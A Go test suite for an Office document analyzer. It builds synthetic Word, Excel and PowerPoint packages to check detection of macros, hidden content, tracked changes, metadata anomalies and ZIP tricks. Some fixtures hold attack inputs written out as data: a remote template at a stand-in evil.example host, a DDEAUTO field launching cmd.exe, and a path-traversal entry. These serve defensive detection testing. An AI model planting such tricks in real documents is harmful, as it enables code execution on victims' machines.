package office

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/doctrust/doctrust/engine/report"
	"github.com/doctrust/doctrust/engine/sniff"
)

const (
	nsW   = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"`
	relNS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
)

// entry is one ZIP entry of a fixture; entries keep their order so
// duplicates and ordering tricks can be built.
type entry struct{ name, body string }

func buildZip(t testing.TB, entries []entry) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, e := range entries {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: e.name, Method: zip.Deflate})
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(e.body))
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func contentTypesXML(mainCT string, extra ...string) string {
	return `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
		`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
		`<Default Extension="xml" ContentType="application/xml"/>` +
		`<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>` +
		`<Override PartName="/word/document.xml" ContentType="` + mainCT + `"/>` +
		`<Override PartName="/xl/workbook.xml" ContentType="` + mainCT + `"/>` +
		`<Override PartName="/ppt/presentation.xml" ContentType="` + mainCT + `"/>` +
		strings.Join(extra, "") + `</Types>`
}

const (
	ctDocx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
	ctDocm = "application/vnd.ms-word.document.macroEnabled.main+xml"
	ctXlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
	ctPptx = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
)

func rels(items ...string) string {
	return `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` + strings.Join(items, "") + `</Relationships>`
}

func relEl(id, typ, target string, external bool) string {
	s := `<Relationship Id="` + id + `" Type="` + relNS + typ + `" Target="` + target + `"`
	if external {
		s += ` TargetMode="External"`
	}
	return s + `/>`
}

const cleanCore = `<?xml version="1.0"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/"><dc:title>Invoice</dc:title><dc:creator>Alice</dc:creator><cp:lastModifiedBy>Alice</cp:lastModifiedBy><cp:revision>3</cp:revision><dcterms:created>2024-01-02T10:00:00Z</dcterms:created><dcterms:modified>2024-01-02T12:00:00Z</dcterms:modified></cp:coreProperties>`

const cleanApp = `<?xml version="1.0"?><Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Application>Microsoft Office Word</Application><AppVersion>16.0000</AppVersion><TotalTime>42</TotalTime><Pages>1</Pages><Template>Normal.dotm</Template></Properties>`

// docx builds a Word package; override replaces or adds parts by name.
func docx(t testing.TB, mainCT, body string, override ...entry) []byte {
	parts := []entry{
		{"[Content_Types].xml", contentTypesXML(mainCT)},
		{"_rels/.rels", rels(relEl("rId1", "officeDocument", "word/document.xml", false),
			relEl("rId2", "extended-properties", "docProps/app.xml", false),
			`<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>`)},
		{"word/document.xml", `<?xml version="1.0"?><w:document ` + nsW + `><w:body>` + body + `</w:body></w:document>`},
		{"word/_rels/document.xml.rels", rels()},
		{"docProps/core.xml", cleanCore},
		{"docProps/app.xml", cleanApp},
	}
	for _, o := range override {
		replaced := false
		for i := range parts {
			if parts[i].name == o.name {
				parts[i], replaced = o, true
			}
		}
		if !replaced {
			parts = append(parts, o)
		}
	}
	return buildZip(t, parts)
}

func analyse(t testing.TB, data []byte) *report.Report {
	t.Helper()
	f := sniff.Sniff(data).Format
	if f.Kind() != sniff.KindOffice {
		t.Fatalf("fixture sniffed as %q", f)
	}
	r, err := Analyze(context.Background(), data, f, Options{Now: time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)})
	if err != nil {
		t.Fatal(err)
	}
	checkInvariants(t, "fixture", r)
	return r
}

func signal(r *report.Report, family string) *report.Signal {
	for i := range r.Signals {
		if r.Signals[i].ID == family {
			return &r.Signals[i]
		}
	}
	return nil
}

// codes lists a signal's message code followed by its note codes.
func codes(s *report.Signal) string {
	out := []string{s.Message.Code}
	for _, n := range s.Notes {
		out = append(out, n.Code)
	}
	return strings.Join(out, ",")
}

func expect(t *testing.T, r *report.Report, family string, sev report.Severity, code string) *report.Signal {
	t.Helper()
	s := signal(r, family)
	if s == nil {
		t.Fatalf("no %s signal; signals: %+v", family, r.Signals)
	}
	if s.Severity != sev || !strings.Contains(codes(s), code) {
		t.Fatalf("%s: got %s %s, want %s %s", family, s.Severity, codes(s), sev, code)
	}
	return s
}

func quiet(t *testing.T, r *report.Report, families ...string) {
	t.Helper()
	for _, f := range families {
		if s := signal(r, f); s != nil {
			t.Errorf("unexpected %s: %s", f, codes(s))
		}
	}
}

var allButStructure = []string{"office-macros", "office-external-links", "office-embedded-objects", "office-hidden-content",
	"office-tracked-changes", "office-injection-markers", "office-metadata-anomalies"}

const para = `<w:p><w:r><w:t>Total due: 1,200.00</w:t></w:r></w:p>`

func TestCleanDocx(t *testing.T) {
	r := analyse(t, docx(t, ctDocx, para))
	quiet(t, r, allButStructure...)
	s := expect(t, r, "office-structure-anomalies", report.Info, "office-structure-anomalies.package-walked")
	if s.Evidence["code"] != "package-walked" {
		t.Errorf("code %v", s.Evidence["code"])
	}
	o := r.Office
	if o.Format != "docx" || *o.Application != "Microsoft Office Word" || *o.SaveCount != 3 || *o.EditingMinutes != 42 || *o.Macros || *o.PartCount != 6 || *o.LastModifiedBy != "Alice" {
		b, _ := json.Marshal(o)
		t.Errorf("office block %s", b)
	}
	if *r.Document.Creator != "Alice" || r.Document.Revisions != 3 || *r.Document.CreationDate != "2024-01-02T10:00:00Z" || r.Document.Pages != 1 {
		b, _ := json.Marshal(r.Document)
		t.Errorf("document block %s", b)
	}
	if r.Summary.Cost.ExpandedBytes == 0 {
		t.Error("cost not counted")
	}
}

func TestMacros(t *testing.T) {
	vba := entry{"word/vbaProject.bin", string(cfbFixture(t, "Module1", "ThisDocument"))}
	docRels := entry{"word/_rels/document.xml.rels", rels(relEl("rId9", "vbaProject", "vbaProject.bin", false))}
	r := analyse(t, docx(t, ctDocm, para, vba, docRels))
	s := expect(t, r, "office-macros", report.Medium, "office-macros.vba")
	mods, _ := s.Evidence["modules"].([]string)
	if strings.Join(mods, ",") != "Module1,ThisDocument" {
		t.Errorf("modules %v", s.Evidence["modules"])
	}
	if !*r.Office.Macros {
		t.Error("macros false in office block")
	}
	// The same project in a package declaring the macro-free type.
	r = analyse(t, docx(t, ctDocx, para, vba, docRels))
	expect(t, r, "office-macros", report.High, "office-macros.disguised")
	// Macro-enabled type, no project.
	r = analyse(t, docx(t, ctDocm, para))
	expect(t, r, "office-macros", report.Info, "office-macros.enabled-no-macros")
	// Excel 4 macro sheet.
	r = analyse(t, xlsx(t, `<sheet name="S" sheetId="1" r:id="rId1"/>`, "", entry{"xl/macrosheets/sheet1.xml", `<xm:macrosheet xmlns:xm="x"/>`}))
	expect(t, r, "office-macros", report.High, "office-macros.disguised")
}

func TestExternalLinks(t *testing.T) {
	cases := []struct {
		name string
		opts []entry
		body string
		sev  report.Severity
		code string
	}{
		{"template", []entry{{"word/_rels/settings.xml.rels", rels(relEl("rId1", "attachedTemplate", "https://evil.example/t.dotm", true))}}, para, report.High, "remote-template"},
		{"ole", []entry{{"word/_rels/document.xml.rels", rels(relEl("rId1", "oleObject", `\\share.example\x\a.xls`, true))}}, para, report.High, "ole-link"},
		{"image", []entry{{"word/_rels/document.xml.rels", rels(relEl("rId1", "image", "http://img.example/p.png", true))}}, para, report.Medium, "remote-content"},
		{"dde", nil, `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r></w:p>`, report.High, "dde"},
		{"ddeSimple", nil, `<w:p><w:fldSimple w:instr="DDE excel x"/></w:p>`, report.High, "dde"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := analyse(t, docx(t, ctDocx, c.body, c.opts...))
			s := expect(t, r, "office-external-links", c.sev, "office-external-links."+c.code)
			if c.name == "template" {
				links := s.Evidence["links"].([]linkEntry)
				if links[0].Host != "evil.example" || links[0].Kind != "remote-template" {
					t.Errorf("links %+v", links)
				}
			}
		})
	}
	// Hyperlinks alone stay quiet.
	r := analyse(t, docx(t, ctDocx, para, entry{"word/_rels/document.xml.rels", rels(relEl("rId1", "hyperlink", "https://example.com", true))}))
	quiet(t, r, "office-external-links")
	// External workbook link part.
	r = analyse(t, xlsx(t, `<sheet name="S" sheetId="1" r:id="rId1"/>`, "", entry{"xl/externalLinks/externalLink1.xml", `<externalLink><externalBook/></externalLink>`}))
	expect(t, r, "office-external-links", report.Medium, "remote-content")
}

func TestEmbeddedObjects(t *testing.T) {
	r := analyse(t, docx(t, ctDocx, para, entry{"word/embeddings/oleObject1.bin", string(cfbMagic)}))
	expect(t, r, "office-embedded-objects", report.Medium, "office-embedded-objects.ole")
	r = analyse(t, docx(t, ctDocx, para, entry{"word/activeX/activeX1.xml", `<ax/>`}))
	expect(t, r, "office-embedded-objects", report.High, "office-embedded-objects.activex")
	r = analyse(t, docx(t, ctDocx, para, entry{"word/embeddings/Microsoft_Word_Document.docx", "PK"}))
	expect(t, r, "office-embedded-objects", report.Low, "office-embedded-objects.package")
	r = analyse(t, docx(t, ctDocx, para, entry{"word/fonts/font1.odttf", "x"}))
	expect(t, r, "office-embedded-objects", report.Info, "office-embedded-objects.fonts")
}

func TestHiddenContent(t *testing.T) {
	body := `<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>secret clause</w:t></w:r><w:r><w:rPr><w:vanish w:val="0"/></w:rPr><w:t>shown</w:t></w:r></w:p>`
	r := analyse(t, docx(t, ctDocx, body))
	s := expect(t, r, "office-hidden-content", report.Medium, "office-hidden-content.hidden-runs")
	if s.Evidence["recovered"] != "secret clause" || s.Evidence["hiddenRuns"] != 1 || s.Evidence["payloadIsUntrusted"] != true {
		t.Errorf("evidence %+v", s.Evidence)
	}
	sheets := `<sheet name="A" sheetId="1" r:id="rId1"/><sheet name="B" sheetId="2" state="hidden" r:id="rId2"/><sheet name="C" sheetId="3" state="veryHidden" r:id="rId3"/>`
	r = analyse(t, xlsx(t, sheets, `<cols><col min="2" max="2" hidden="1"/></cols><sheetData><row r="1" hidden="1"><c r="A1" t="s"><v>0</v></c></row><row r="2"><c r="A2"><v>1</v></c><c r="B2"><v>99</v></c></row></sheetData>`))
	s = expect(t, r, "office-hidden-content", report.Medium, "office-hidden-content.very-hidden-sheets")
	if s.Evidence["hiddenRowCells"] != 1 || s.Evidence["hiddenColumnCells"] != 1 || s.Evidence["hiddenSheets"] != 1 {
		t.Errorf("evidence %+v", s.Evidence)
	}
	if rec := s.Evidence["recovered"].(string); !strings.Contains(rec, "hidden payroll") || !strings.Contains(rec, "99") {
		t.Errorf("recovered %q", rec)
	}
	r = analyse(t, pptx(t, `<p:sld xmlns:p="p" xmlns:a="a" show="0"><a:t>draft numbers</a:t></p:sld>`))
	s = expect(t, r, "office-hidden-content", report.Low, "office-hidden-content.hidden-slides")
	if s.Evidence["recovered"] != "draft numbers" {
		t.Errorf("recovered %v", s.Evidence["recovered"])
	}
	quiet(t, analyse(t, pptx(t, `<p:sld xmlns:p="p"/>`)), allButStructure...)
	quiet(t, analyse(t, xlsx(t, `<sheet name="A" sheetId="1" r:id="rId1"/>`, `<sheetData><row r="1" hidden="1"/></sheetData>`)), allButStructure...)
}

func TestTrackedChanges(t *testing.T) {
	body := `<w:p><w:del w:id="1" w:author="Mallory"><w:r><w:delText>9,400.00</w:delText></w:r></w:del><w:ins w:id="2" w:author="Eve"><w:r><w:t>1,200.00</w:t></w:r></w:ins></w:p>`
	r := analyse(t, docx(t, ctDocx, body))
	s := expect(t, r, "office-tracked-changes", report.Medium, "office-tracked-changes.deletions")
	if s.Evidence["recovered"] != "9,400.00" || strings.Join(s.Evidence["authors"].([]string), ",") != "Eve,Mallory" || s.Evidence["payloadIsUntrusted"] != true {
		t.Errorf("evidence %+v", s.Evidence)
	}
	red := r.Redacted()
	if signal(red, "office-tracked-changes").Evidence["recovered"] != report.Redacted {
		t.Error("recovered not redacted")
	}
	r = analyse(t, docx(t, ctDocx, `<w:p><w:moveTo w:author="A"><w:r><w:t>x</w:t></w:r></w:moveTo></w:p>`))
	expect(t, r, "office-tracked-changes", report.Low, "office-tracked-changes.insertions")
	r = analyse(t, docx(t, ctDocx, `<w:p><w:r><w:rPr><w:b/><w:rPrChange w:author="A"><w:rPr/></w:rPrChange></w:rPr><w:t>x</w:t></w:r></w:p>`))
	expect(t, r, "office-tracked-changes", report.Info, "office-tracked-changes.formatting")
}

func TestSharedWorkbookRevisions(t *testing.T) {
	headers := entry{"xl/revisions/revisionHeaders.xml", `<headers><header guid="{1}" dateTime="2026-01-02T10:00:00" userName="Mallory" r:id="rId1"/></headers>`}
	log := entry{"xl/revisions/revisionLog1.xml", `<revisions>` +
		`<rcc rId="1" sId="1"><oc r="B7" t="n"><v>9400</v></oc><nc r="B7" t="n"><v>1200</v></nc></rcc>` +
		`<rcc rId="2" sId="1"><nc r="C1" t="inlineStr"><is><t>new</t></is></nc></rcc>` +
		`<rrc rId="3" sId="1" action="deleteRow" ref="A9:XFD9"/>` +
		`<rfmt sheetId="1" sqref="A1"/></revisions>`}
	r := analyse(t, xlsx(t, `<sheet name="A" sheetId="1" r:id="rId1"/>`, `<sheetData/>`, headers, log))
	s := expect(t, r, "office-tracked-changes", report.Medium, "office-tracked-changes.deletions")
	if s.Evidence["recovered"] != "9400" || s.Evidence["deletions"] != 2 || s.Evidence["insertions"] != 1 ||
		s.Evidence["formattingChanges"] != 1 || strings.Join(s.Evidence["authors"].([]string), ",") != "Mallory" {
		t.Errorf("evidence %+v", s.Evidence)
	}
}

func TestMetadataAnomalies(t *testing.T) {
	withCore := func(from, to string) entry {
		return entry{"docProps/core.xml", strings.Replace(cleanCore, from, to, 1)}
	}
	withApp := func(from, to string) entry { return entry{"docProps/app.xml", strings.Replace(cleanApp, from, to, 1)} }
	cases := []struct {
		e    entry
		sev  report.Severity
		code string
	}{
		{withCore("2024-01-02T12:00:00Z</dcterms:modified>", "2023-01-02T12:00:00Z</dcterms:modified>"), report.Medium, "dates-out-of-order"},
		{withCore("2024-01-02T12:00:00Z</dcterms:modified>", "2031-01-02T12:00:00Z</dcterms:modified>"), report.Low, "future-date"},
		{withApp("<TotalTime>42</TotalTime>", "<TotalTime>9000</TotalTime>"), report.Low, "editing-time"},
		{withCore("<cp:lastModifiedBy>Alice</cp:lastModifiedBy>", "<cp:lastModifiedBy>Bob</cp:lastModifiedBy>"), report.Info, ""},
		{withApp("Microsoft Office Word", "Microsoft Excel"), report.Medium, "application-mismatch"},
		{withApp("Normal.dotm", `\\share.example\t\Invoice.dotm`), report.Low, "template-elsewhere"},
	}
	for _, c := range cases {
		r := analyse(t, docx(t, ctDocx, para, c.e))
		if c.code == "" {
			quiet(t, r, "office-metadata-anomalies") // three revisions: a second editor is normal
			continue
		}
		expect(t, r, "office-metadata-anomalies", c.sev, "office-metadata-anomalies."+c.code)
	}
	core := strings.Replace(strings.Replace(cleanCore, "<cp:revision>3", "<cp:revision>1", 1), "<cp:lastModifiedBy>Alice", "<cp:lastModifiedBy>Bob", 1)
	expect(t, analyse(t, docx(t, ctDocx, para, entry{"docProps/core.xml", core})), "office-metadata-anomalies", report.Low, "author-single-revision")
	core = strings.Replace(cleanCore, "<cp:revision>3", "<cp:revision>25", 1)
	expect(t, analyse(t, docx(t, ctDocx, para, entry{"docProps/core.xml", core}, withApp("<TotalTime>42", "<TotalTime>0"))), "office-metadata-anomalies", report.Low, "saves-without-editing")
}

func TestStructureAnomalies(t *testing.T) {
	fam := "office-structure-anomalies"
	base := docx(t, ctDocx, para)
	// Undeclared and unusual parts.
	r := analyse(t, docx(t, ctDocx, para, entry{"payload/stash.dat", "x"}))
	s := expect(t, r, fam, report.Low, "undeclared-parts")
	if !strings.Contains(codes(s), "unusual-parts") || !strings.HasSuffix(codes(s), "blind-spot") {
		t.Errorf("codes %s", codes(s))
	}
	// Missing relationship target.
	r = analyse(t, docx(t, ctDocx, para, entry{"word/_rels/document.xml.rels", rels(relEl("rId1", "styles", "styles.xml", false))}))
	expect(t, r, fam, report.Low, "missing-targets")
	// A part declared XML that is not.
	r = analyse(t, docx(t, ctDocx, para, entry{"docProps/app.xml", "MZ\x90\x00binary"}))
	expect(t, r, fam, report.Medium, "content-type-mismatch")
	// Duplicate entry names.
	r = analyse(t, docx(t, ctDocx, para, entry{"WORD/document.xml", "<x/>"}))
	expect(t, r, fam, report.High, "zip-ambiguous")
	// Path tricks.
	r = analyse(t, docx(t, ctDocx, para, entry{"../../evil.xml", "<x/>"}))
	expect(t, r, fam, report.Medium, "path-tricks")
	// Data before and after the archive.
	r = analyse(t, append(append([]byte("JUNKJUNK"), base...), "TRAILER"...))
	s = expect(t, r, fam, report.Medium, "extra-data")
	if s.Evidence["leadingBytes"] != int64(8) || s.Evidence["trailingBytes"] != int64(7) {
		t.Errorf("evidence %+v", s.Evidence)
	}
	// Malformed XML.
	r = analyse(t, docx(t, ctDocx, `<w:p><w:r><w:t>unclosed`))
	expect(t, r, fam, report.Low, "malformed-xml")
	// Deep nesting.
	r = analyse(t, docx(t, ctDocx, strings.Repeat("<w:p>", maxXMLDepth+10)))
	expect(t, r, fam, report.Low, "malformed-xml")
}

func TestZipBombBounded(t *testing.T) {
	big := strings.Repeat("<w:p/>", (MaxPartBytes/6)+1000)
	data := docx(t, ctDocx, big)
	r := analyse(t, data)
	expect(t, r, "office-structure-anomalies", report.Medium, "expansion-limit")
	if r.Summary.Cost.ExpandedBytes > DefaultBudget {
		t.Errorf("expanded %d", r.Summary.Cost.ExpandedBytes)
	}
	// A small budget stops the walk early and says so.
	r, err := Analyze(context.Background(), docx(t, ctDocx, para), sniff.DOCX, Options{Budget: 100})
	if err != nil {
		t.Fatal(err)
	}
	s := signal(r, "office-structure-anomalies")
	if s.Evidence["budgetExhausted"] != true {
		t.Errorf("evidence %+v", s.Evidence)
	}
}

func TestEncryptedEntryAndHeaderMismatch(t *testing.T) {
	data := docx(t, ctDocx, para, entry{"word/x.xml", "<x/>"})
	// Set the encryption flag in the central directory entry of word/x.xml
	// and rename its local header.
	cd := bytes.LastIndex(data, []byte("PK\x01\x02"))
	data[cd+8] |= 1
	lh := bytes.LastIndex(data[:cd], []byte("PK\x03\x04"))
	copy(data[lh+30:], "word/y.xml")
	r := analyse(t, data)
	s := expect(t, r, "office-structure-anomalies", report.High, "zip-ambiguous")
	if !strings.Contains(codes(s), "encrypted-entries") {
		t.Errorf("codes %s", codes(s))
	}
}

func TestDeadline(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := Analyze(ctx, docx(t, ctDocx, para), sniff.DOCX, Options{}); err != ErrDeadline {
		t.Fatalf("err %v", err)
	}
}

func xlsx(t testing.TB, sheets, sheet1 string, extra ...entry) []byte {
	parts := []entry{
		{"[Content_Types].xml", contentTypesXML(ctXlsx)},
		{"_rels/.rels", rels(relEl("rId1", "officeDocument", "xl/workbook.xml", false))},
		{"xl/workbook.xml", `<workbook xmlns:r="r"><sheets>` + sheets + `</sheets></workbook>`},
		{"xl/_rels/workbook.xml.rels", rels(relEl("rId1", "worksheet", "worksheets/sheet1.xml", false))},
		{"xl/worksheets/sheet1.xml", `<worksheet>` + sheet1 + `</worksheet>`},
		{"xl/sharedStrings.xml", `<sst><si><t>hidden payroll</t></si></sst>`},
	}
	return buildZip(t, append(parts, extra...))
}

func pptx(t testing.TB, slide string) []byte {
	return buildZip(t, []entry{
		{"[Content_Types].xml", contentTypesXML(ctPptx)},
		{"_rels/.rels", rels(relEl("rId1", "officeDocument", "ppt/presentation.xml", false))},
		{"ppt/presentation.xml", `<p:presentation xmlns:p="p"/>`},
		{"ppt/_rels/presentation.xml.rels", rels(relEl("rId1", "slide", "slides/slide1.xml", false))},
		{"ppt/slides/slide1.xml", slide},
	})
}

// jpegWithCreatorTool is a minimal JPEG whose XMP names its creator tool.
func jpegWithCreatorTool(tool string) string {
	xmp := "http://ns.adobe.com/xap/1.0/\x00" + `<x:xmpmeta><rdf:RDF><rdf:Description xmp:CreatorTool="` + tool + `"/></rdf:RDF></x:xmpmeta>`
	seg := func(m byte, p string) string {
		return string([]byte{0xFF, m, byte((len(p) + 2) >> 8), byte(len(p) + 2)}) + p
	}
	sof := string([]byte{0x08, 0x00, 0x10, 0x00, 0x10, 0x03, 0x01, 0x11, 0x00, 0x02, 0x11, 0x01, 0x03, 0x11, 0x01})
	return "\xFF\xD8" + seg(0xE1, xmp) + seg(0xC0, sof) + "\xFF\xD9"
}

func TestEditedEmbeddedImage(t *testing.T) {
	r := analyse(t, docx(t, ctDocx, `<w:p/>`, entry{"word/media/image1.jpeg", jpegWithCreatorTool("Adobe Photoshop 25.0 (Windows)")}))
	s := expect(t, r, "office-metadata-anomalies", report.Low, "office-metadata-anomalies.image-edited")
	edited := s.Evidence["editedImages"].([]editedImage)
	if len(edited) != 1 || edited[0].Part != "word/media/image1.jpeg" || edited[0].Tools[0] != "Adobe Photoshop" || s.Evidence["imagesWalked"] != 1 {
		t.Fatalf("evidence %+v", s.Evidence)
	}
	r = analyse(t, docx(t, ctDocx, `<w:p/>`, entry{"word/media/image1.jpeg", jpegWithCreatorTool("Canon EOS R5 Firmware 1.8")}))
	quiet(t, r, "office-metadata-anomalies")
}
